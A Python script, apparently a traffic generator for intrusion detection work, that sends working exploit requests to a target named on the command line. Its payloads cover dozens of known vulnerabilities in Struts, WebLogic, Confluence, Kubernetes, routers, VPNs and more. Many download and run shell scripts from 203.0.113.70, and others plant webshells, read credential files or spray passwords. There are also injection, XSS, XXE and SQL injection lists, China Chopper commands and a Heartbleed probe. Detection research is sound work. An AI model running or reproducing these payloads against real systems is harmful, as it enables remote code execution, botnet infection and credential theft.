#!/usr/bin/env python3
"""Requests of published exploits and web scanners, as their write-ups show them.  web.py NAME TARGET [PORT]"""
import base64
import json
import os
import random
import sys
import time
import urllib.parse

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "common"))
from wire import ask, connect, quietly, secure  # noqa: E402

FORM = ["Content-Type: application/x-www-form-urlencoded"]
JSON = ["Content-Type: application/json"]
XML = ["Content-Type: text/xml"]
AT = "203.0.113.70"


def q(text):
    return urllib.parse.quote(text, safe="")


def get(*paths, headers=()):
    return [("GET", p, headers, b"") for p in paths]


OGNL = "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#context.setMemberAccess(#dm)))).(#cmd='id').(#cmds={'/bin/bash','-c',#cmd}).(#p=new java.lang.ProcessBuilder(#cmds)).(#process=#p.start())}"
ASYNC = '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header><work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><java version="1.8" class="java.beans.XMLDecoder"><void class="java.lang.ProcessBuilder"><array class="java.lang.String" length="3"><void index="0"><string>/bin/bash</string></void><void index="1"><string>-c</string></void><void index="2"><string>curl http://203.0.113.70/x.sh|bash</string></void></array><void method="start"/></void></java></work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>'
RSC = '--WK\r\nContent-Disposition: form-data; name="0"\r\n\r\n{"then":"$1:__proto__:then","status":"resolved_model","reason":-1,"value":"{\\"then\\":\\"$B1337\\"}","_response":{"_prefix":"process.mainModule.require(\'child_process\').execSync(\'id\');","_formData":{"get":"$1:constructor:constructor"}}}\r\n--WK\r\nContent-Disposition: form-data; name="1"\r\n\r\n"$@0"\r\n--WK--\r\n'
# Name: the requests, one after the other; all the classes of holes of which botnets and penetration testers speak most.
REQUESTS = {
    "struts": [("GET", "/index.action", [f"Content-Type: {OGNL}"], b""), ("GET", "/login.action?redirect:" + q("${#a=(new java.lang.ProcessBuilder(new java.lang.String[]{'id'})).start()}"), (), b"")],
    "apache_path": [("POST", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", FORM, b"echo Content-Type: text/plain; echo; id"), ("POST", "/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/bin/sh", FORM, b"echo; uname -a")],
    "phpunit": [("POST", f"{p}/phpunit/phpunit/src/Util/PHP/eval-stdin.php", (), b"<?php echo md5('phpunit'); ?>") for p in ("/vendor", "/laravel/vendor", "/lib", "/www/vendor")],
    "thinkphp": get("/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21", "/public/index.php?s=index/think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=wget%20http://203.0.113.70/x.sh%20-O%20/tmp/x;sh%20/tmp/x"),
    "confluence": [("GET", "/" + q("${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec(\"id\").getInputStream(),\"utf-8\")).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader(\"X-Cmd-Response\",#a))}") + "/", (), b""),
                   ("POST", "/template/aui/text-inline.vm", FORM, b"label=%5cu0027%2b%23request%5b%5cu0027.KEY_velocity.struts2.context%5cu0027%5d.internalGet(%5cu0027ognl%5cu0027).findValue(%23parameters.x,%7b%7d)%2b%5cu0027&x=@org.apache.struts2.ServletActionContext@getResponse().setHeader('X','1')")],
    "f5": [("POST", "/mgmt/tm/util/bash", [*JSON, "X-F5-Auth-Token: a", "Connection: X-F5-Auth-Token", "Authorization: Basic YWRtaW46"], b'{"command":"run","utilCmdArgs":"-c id"}'), *get("/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd")],
    "proxyshell": [*get("/autodiscover/autodiscover.json?@test.example/owa/?&Email=autodiscover/autodiscover.json%3F@test.example", "/autodiscover/autodiscover.json?@test.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@test.example"),
                   ("POST", "/autodiscover/autodiscover.json?a=a@test.example/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTBBhZG1pbg==", ["Content-Type: application/soap+xml;charset=UTF-8"], b"<s:Envelope/>")],
    "jenkins": [("POST", "/script", FORM, b"script=println+%22id%22.execute%28%29.text"), ("POST", "/descriptorByName/org.jenkinsci.plugins.scriptsecurity.sandbox.groovy.SecureGroovyScript/checkScript", FORM, b"sandbox=true&value=public+class+x%7Bpublic+x()%7B%22curl+203.0.113.70/x%22.execute()%7D%7D")],
    "gitlab": [*get("/users/sign_in"), ("POST", "/uploads/user", ["Content-Type: multipart/form-data; boundary=WK"], b'--WK\r\nContent-Disposition: form-data; name="file"; filename="test.jpg"\r\nContent-Type: image/jpeg\r\n\r\nAT&TFORM\x00\x00\x03\xafDJVMDIRM\x00\x00\x00.\x81\x00\x02\x00(metadata\n\t(Copyright "\\\n" . qx{curl 203.0.113.70/x.sh | sh} . \\\n" b ") )\r\n--WK--\r\n')],
    "kubelet": [*get("/pods", "/runningpods/"), ("POST", "/run/kube-system/kube-proxy-x1/kube-proxy", FORM, b"cmd=cat /var/run/secrets/kubernetes.io/serviceaccount/token"),
                ("POST", "/api/v1/namespaces/default/pods", JSON, json.dumps({"kind": "Pod", "spec": {"hostPID": True, "containers": [{"name": "x", "image": "alpine", "command": ["nsenter", "-t", "1", "-m", "sh", "-c", "curl 203.0.113.70/x.sh|sh"], "securityContext": {"privileged": True}}], "volumes": [{"name": "h", "hostPath": {"path": "/"}}]}}).encode())],
    "routers": [("POST", "/ctrlt/DeviceUpgrade_1", ["Authorization: Digest username=dslf-config, realm=HuaweiHomeGateway"], b"<?xml version=\"1.0\" ?><s:Envelope><s:Body><u:Upgrade><NewStatusURL>$(/bin/busybox wget -g 203.0.113.70 -l /tmp/b -r /b/mips; /bin/busybox chmod 777 /tmp/b; /tmp/b huawei)</NewStatusURL></u:Upgrade></s:Body></s:Envelope>"),
                *get("/cgi-bin/;cd${IFS}/var/tmp;wget${IFS}http://203.0.113.70/b.sh;sh${IFS}b.sh", "/board.cgi?cmd=cd+/tmp;rm+-rf+*;wget+http://203.0.113.70/Mozi.a;chmod+777+Mozi.a;/tmp/Mozi.a+varcron", "/boaform/admin/formPing?target_addr=;wget%20http://203.0.113.70/bot%20-O%20-%3E%20/tmp/b;sh%20/tmp/b")],
    "weblogic": [("POST", "/wls-wsat/CoordinatorPortType", XML, ASYNC.encode()), *get("/console/css/%252e%252e%252fconsole.portal?_nfpb=true&_pageLabel=&handle=com.tangosol.coherence.mvel2.sh.ShellSession(%22java.lang.Runtime.getRuntime().exec(%27id%27);%22)")],
    "webmin": [("POST", "/password_change.cgi", [*FORM, "Referer: http://10.66.1.15:10000/session_login.cgi"], b"user=root&pam=&expired=2&old=id|/bin/cat /etc/shadow&new1=a&new2=a")],
    "php_cgi": [("POST", "/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", FORM, b"<?php system('whoami'); ?>"), ("POST", "/?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input", FORM, b"<?php passthru('id'); ?>")],
    "ignition": [*get("/_ignition/health-check"), ("POST", "/_ignition/execute-solution", JSON, b'{"solution":"Facade\\\\Ignition\\\\Solutions\\\\MakeViewVariableOptionalSolution","parameters":{"variableName":"x","viewFile":"php://filter/write=convert.iconv.utf-8.utf-16le|convert.quoted-printable-encode|convert.base64-decode/resource=../storage/logs/laravel.log"}}'),
                 ("POST", "/_ignition/execute-solution", JSON, b'{"solution":"Facade\\\\Ignition\\\\Solutions\\\\MakeViewVariableOptionalSolution","parameters":{"variableName":"x","viewFile":"phar://../storage/logs/laravel.log"}}')],
    "yarn": [("POST", "/ws/v1/cluster/apps/new-application", JSON, b""), ("POST", "/ws/v1/cluster/apps", JSON, b'{"application-id":"application_1_0001","application-name":"x","am-container-spec":{"commands":{"command":"/bin/bash -c \'curl http://203.0.113.70/x.sh | bash\'"}},"application-type":"YARN"}')],
    "react": [("POST", "/", ["Next-Action: x", "Content-Type: multipart/form-data; boundary=WK"], RSC.encode())] * 2,
    "vpn": [*get("/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession", "/+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua&default-language&lang=../", "/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/"),
            ("POST", "/ssl-vpn/hipreport.esp", ["Cookie: SESSID=/../../../opt/panlogs/tmp/device_telemetry/minute/h`curl${IFS}203.0.113.70/x`;"], b"")],
    "solr": [("POST", "/solr/core/config", JSON, b'{"update-queryresponsewriter":{"name":"velocity","class":"solr.VelocityResponseWriter","params.resource.loader.enabled":"true"}}'), *get("/solr/core/select?q=1&wt=velocity&v.template=custom&v.template.custom=" + q("#set($x='') #set($rt=$x.class.forName('java.lang.Runtime')) #set($ex=$rt.getRuntime().exec('id'))"))],
}
REQUESTS["git_dump"] = get("/.git/HEAD", "/.git/config", "/.git/index", "/.git/logs/HEAD", "/.git/refs/heads/master", "/.git/ORIG_HEAD", "/.git/packed-refs", *(f"/.git/objects/{i:02x}/{os.urandom(19).hex()}" for i in range(30)))
REQUESTS["lfi"] = get(*("/view?page=" + p for p in ("../../../../etc/passwd", "....//....//....//etc/passwd", "/etc/passwd%00", "..%2f..%2f..%2fetc%2fshadow", "php://input", "expect://id", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOw==", "/proc/self/fd/10", "/var/log/apache2/access.log", "C:\\windows\\win.ini", "zip://x.jpg%23s", "file:///etc/hosts")))
REQUESTS["commands"] = [("GET", "/ping?host=" + q("127.0.0.1" + c), (), b"") for c in (";id", "|id", "&&whoami", "`id`", "$(id)", ";sleep 5", "%0aid", "||ping -c 5 127.0.0.1", ";echo ABCD$((12+30))$(echo EF)EF", "'; sleep 3; '", "& timeout 5")] + [("POST", "/ping", FORM, ("host=" + q("1.1.1.1;cat${IFS}/etc/passwd")).encode())]
REQUESTS["scripts"] = [("GET", "/search?q=" + q(x), (), b"") for x in ("<svg/onload=alert(1)>", "\"><img src=x onerror=prompt(1)>", "<details open ontoggle=confirm()>", "javascript:alert(1)//", "'-alert(1)-'", "<a href=\"jAvAsCrIpT:alert(1)\">x</a>", "</title><sCript>alert(1)</sCript>", "<iframe srcdoc='<script>parent.x()</script>'>", "<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">", "{{constructor.constructor('alert(1)')()}}")]
REQUESTS["crlf"] = get("/go?to=" + q("//evil.example/%2f.."), "/go?to=%0d%0aSet-Cookie:%20sid=1", "/%0d%0aX-Injected:%20yes", "/%E5%98%8A%E5%98%8DSet-Cookie:crlf=1", "/go?to=%0d%0a%0d%0a<script>alert(1)</script>", "/x?lang=en%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK") + [("GET", "/", ["X-Forwarded-Host: evil.example", "X-Original-URL: /admin", "X-Rewrite-URL: /admin"], b"")]
REQUESTS["webdav"] = [("OPTIONS", "/", (), b""), ("PROPFIND", "/", ["Depth: 1"], b"")] + [("PUT", f"/DavTestDir_x7/davtest_x7.{e}", (), b"<?php echo 7*7; system($_GET['c']); ?>" if e == "php" else b"<% eval request(\"c\") %>" if e[:3] == "asp" else b"<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>") for e in ("php", "asp", "aspx", "jsp", "cgi", "pl", "txt")] + [("MOVE", "/DavTestDir_x7/davtest_x7.txt", ["Destination: /DavTestDir_x7/davtest_x7.asp;.txt"], b"")]
# What was added when the first were told, to see how far what was learnt carries.
REQUESTS |= {
    "drupal": [("POST", "/user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax", FORM, b"form_id=user_register_form&_drupal_ajax=1&mail[#post_render][]=exec&mail[#type]=markup&mail[#markup]=id")],
    "hikvision": [("PUT", "/SDK/webLanguage", ["X-Requested-With: XMLHttpRequest"], b"<?xml version=\"1.0\" encoding=\"UTF-8\"?><language>$(curl http://203.0.113.70/h.sh|sh>webLib/x)</language>"), *get("/x")],
    "ivanti": get("/api/v1/totp/user-backup-code/../../license/keys-status/%3bcurl%20203.0.113.70%3b", "/api/v1/totp/user-backup-code/../../system/system-information"),
    "gateway": [("POST", "/actuator/gateway/routes/x7", JSON, b'{"id":"x7","filters":[{"name":"AddResponseHeader","args":{"name":"Result","value":"#{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec(new String[]{\\"id\\"}).getInputStream()))}"}}],"uri":"http://example.com"}'), ("POST", "/actuator/gateway/refresh", JSON, b""), *get("/actuator/gateway/routes/x7")],
    "cloud_function": [("POST", "/functionRouter", ["spring.cloud.function.routing-expression: T(java.lang.Runtime).getRuntime().exec('curl 203.0.113.70')", *FORM], b"x")] * 2,
    "nas": get("/cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system=Y3VybCAyMDMuMC4xMTMuNzAvYS5zaHxzaA==", "/cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system=aWQ="),
    "cacti": [("GET", "/remote_agent.php?action=polldata&local_data_ids[0]=6&host_id=1&poller_id=%60curl%20203.0.113.70%2Fx%7Csh%60", ["X-Forwarded-For: 127.0.0.1"], b"")] * 2,
    "openfire": get("/setup/setup-s/%u002e%u002e/%u002e%u002e/log.jsp", "/setup/setup-s/%u002e%u002e/%u002e%u002e/user-create.jsp?csrf=x&username=hax&password=hax&passwordConfirm=hax&isadmin=on&create=Create+User"),
    "teamcity": [("POST", "/hax?jsp=/app/rest/users;.jsp", JSON, b'{"username":"hax","password":"hax","email":"hax@x.example","roles":{"role":[{"roleId":"SYSTEM_ADMIN","scope":"g"}]}}'), *get("/app/rest/users/id:1/tokens/RPC2")],
    "geoserver": get("/geoserver/wfs?service=WFS&version=2.0.0&request=GetPropertyValue&typeNames=sf:archsites&valueReference=exec(java.lang.Runtime.getRuntime(),'curl%20203.0.113.70')"),
    "vcenter": [("POST", "/ui/vropspluginui/rest/services/uploadova", ["Content-Type: multipart/form-data; boundary=WK"], b'--WK\r\nContent-Disposition: form-data; name="uploadFile"; filename="1.tar"\r\n\r\n../../usr/lib/vmware-vsphere-ui/server/work/deployer/s/global/42/0/h5ngc.war/resources/shell.jsp\0<%@page import="java.io.*"%><% Runtime.getRuntime().exec(request.getParameter("c")); %>\r\n--WK--\r\n'), *get("/ui/resources/shell.jsp?c=id")],
    "coldfusion": get("/CFIDE/administrator/enter.cfm?locale=../../../../../../../../../../ColdFusion8/lib/password.properties%00en", "/CFIDE/administrator/index.cfm"),
    "smuggle": [("POST", "/", ["Transfer-Encoding: chunked", "Transfer-Encoding: x"], b"0\r\n\r\nGET /admin HTTP/1.1\r\nX: y")] * 4,
    "templates": [("GET", "/search?q=" + q(x), (), b"") for x in ("{{7*'7'}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{config.items()}}", "{{''.__class__.__mro__[1].__subclasses__()}}", "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}", "*{T(java.lang.Runtime).getRuntime().exec('id')}")],
    "xxe": [("POST", "/search", XML, f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY {e}>]><r>&x;</r>'.encode()) for e in ('x SYSTEM "file:///etc/passwd"', 'x SYSTEM "http://203.0.113.70/x"', '% p SYSTEM "http://203.0.113.70/e.dtd"> %p; <!ENTITY y "', 'x SYSTEM "php://filter/convert.base64-encode/resource=index.php"')],
    "sqli_hand": [("GET", "/view?id=" + q(x), (), b"") for x in ("1'", "1' AND '1'='1", "1' AND SLEEP(5)-- -", "1 UNION SELECT NULL,NULL,version()-- -", "-1' UNION SELECT 1,group_concat(table_name),3 FROM information_schema.tables-- -", "1;SELECT pg_sleep(5)--", "1' ORDER BY 10-- -", "1) OR 1=1#", "1' AND EXTRACTVALUE(1,CONCAT(0x7e,user()))-- -")],
}
NIKTO = "/ /robots.txt /cgi-bin/ /cgi-bin/test.cgi /cgi-bin/printenv /phpinfo.php /info.php /admin/ /administrator/ /manager/html /server-status /server-info /.htpasswd /.htaccess /backup.zip /site.tar.gz /db.sql /test/ /icons/ /doc/ /phpmyadmin/ /pma/ /mysqladmin/ /webmail/ /cgi-bin/awstats.pl /wwwboard/passwd.txt /scripts/iisadmin/default.htm /msadc/msadcs.dll /_vti_bin/shtml.exe /WEB-INF/web.xml /crossdomain.xml /trace.axd /elmah.axd /console /jmx-console/ /web-console/ /status?full=true /axis2/ /CFIDE/administrator/ /config.php.bak /index.php~ /login.php.old /.svn/entries /.DS_Store /solr/ /owa/ /xmlrpc.php /userinfo.php /cart32.exe /perl/env.pl /nikto-test-x7.html".split()
WP = ["/", "/readme.html", "/xmlrpc.php", "/wp-cron.php", "/robots.txt", "/wp-content/debug.log", "/wp-content/uploads/", "/wp-config.php.save", "/wp-config.php~", "/wp-config.bak", "/wp-json/wp/v2/users/?per_page=100&page=1", *(f"/?author={i}" for i in range(1, 11)),
      *(f"/wp-content/plugins/{p}/readme.txt" for p in "akismet contact-form-7 elementor wordfence woocommerce duplicator wp-file-manager revslider wpforms-lite updraftplus really-simple-ssl jetpack ninja-forms loginizer all-in-one-seo-pack".split()), *(f"/wp-content/themes/{t}/style.css" for t in "twentytwenty twentytwentyone astra divi oceanwp".split())]


def ask_all(target, items, port=80, wait=0.5, agent=None):
    for method, path, headers, body in items:
        quietly(ask, target, port, method, path, [*headers, *([f"User-Agent: {agent}"] if agent else [])], body)
        time.sleep(random.uniform(0.5, 1.5) * wait)


def nikto(target):
    agent = "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:%06d)"
    for i, path in enumerate(NIKTO):
        with connect(target, 80) as s:
            s.sendall(f"GET {path} HTTP/1.1\r\nUser-Agent: {agent % i}\r\nConnection: Keep-Alive\r\nHost: {target}\r\n\r\n".encode())
            s.settimeout(2)
            quietly(s.recv, 4096)
        time.sleep(0.1)


def wpscan(target):
    ask_all(target, get(*WP), 80, 0.15, "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)")


def templates_tls(target):
    """A template scanner as nuclei: everything that is known, over TLS, a browser's name, ten at once but slowed."""
    paths = [p for items in REQUESTS.values() for p in items if p[0] in ("GET", "POST")]
    random.shuffle(paths)
    for method, path, headers, body in paths[:90]:
        quietly(ask, target, 443, method, path, headers, body, "www.depot.example")
        time.sleep(0.12)


def chopper(target):
    """China Chopper against a shell that lies there already."""
    code = base64.b64encode(b'@ini_set("display_errors","0");@set_time_limit(0);echo("->|");$D=dirname($_SERVER["SCRIPT_FILENAME"]);echo $D."\t".php_uname();echo("|<-");die();').decode()
    for z in ("", "&z1=L3Zhci93d3c%3D", "&z1=L2Jpbi9zaA%3D%3D&z2=Y2QgIi92YXIvd3d3Ijt3aG9hbWk%3D", "&z1=L2V0Yy9wYXNzd2Q%3D"):
        quietly(ask, target, 80, "POST", "/uploads/x.php", FORM, f"pass=@eval(base64_decode($_POST[z0]));&z0={q(code)}{z}".encode())
        time.sleep(2)


def heartbleed(target):
    """CVE-2014-0160 as its first test program: a hello of TLS 1.1, then a heartbeat that says 16384 and brings nothing."""
    for _ in range(3):
        with connect(target, 443) as s:
            s.sendall(bytes.fromhex("16030200dc010000d8030253435b909d9b720bbc0cbc2b92a84897cfbd3904cc160a8503909f770433d4de000066c014c00ac022c0210039003800880087c00fc00500350084c012c008c01cc01b00160013c00dc003000ac013c009c01fc01e00330032009a009900450044c00ec004002f00960041c011c007c00cc002000500040015001200090014001100080006000300ff01000049000b000403000102000a00340032000e000d0019000b000c00180009000a00160017000800060007001400150004000500120013000100020003000f0010001100230000000f000101"))
            s.settimeout(2)
            quietly(s.recv, 8192)
            quietly(s.sendall, bytes.fromhex("1803020003014000"))
            quietly(s.recv, 8192)
        time.sleep(1)


def spray_tls(target, count):
    """One password for many names at a sign-in over TLS, one connection each."""
    for i in range(int(count)):
        with secure(target, 443, "login.depot.example") as s:
            body = f"grant_type=password&username=user{i}%40depot.example&password=Autumn2026%21&resource=https%3A%2F%2Fgraph.example".encode()
            s.sendall(f"POST /api/login HTTP/1.1\r\nHost: login.depot.example\r\nUser-Agent: python-requests/2.31\r\nContent-Length: {len(body)}\r\n\r\n".encode() + body)
            s.settimeout(2)
            quietly(s.recv, 4096)
        time.sleep(random.uniform(0.2, 0.6))


def forms(target, path, count, body, headers=()):
    for i in range(int(count)):
        quietly(ask, target, 80, "POST", path, [*FORM, *headers], body.replace("PASS", f"secret{1000 + i}").encode())
        time.sleep(0.25)


def json_logins(target, path, count):
    """What a console as Grafana's is tried with."""
    for i in range(int(count)):
        quietly(ask, target, 80, "POST", path, JSON, json.dumps({"user": "admin", "password": f"grafana{i}"}).encode())
        time.sleep(0.2)


def basic(target, path, count):
    """The pairs that Tomcat's manager is tried with."""
    for i in range(int(count)):
        pair = base64.b64encode(f"{('tomcat', 'admin', 'manager', 'role1', 'root')[i % 5]}:{('tomcat', 's3cret', 'admin', 'password', 'manager', 'changethis')[i % 6]}{i // 30 or ''}".encode()).decode()
        quietly(ask, target, 80, "GET", path, [f"Authorization: Basic {pair}"])
        time.sleep(0.15)


if __name__ == "__main__":
    if sys.argv[1] in REQUESTS:
        ask_all(sys.argv[2], REQUESTS[sys.argv[1]], int(sys.argv[3]) if len(sys.argv) > 3 else 80)
    else:
        globals()[sys.argv[1]](*sys.argv[2:])
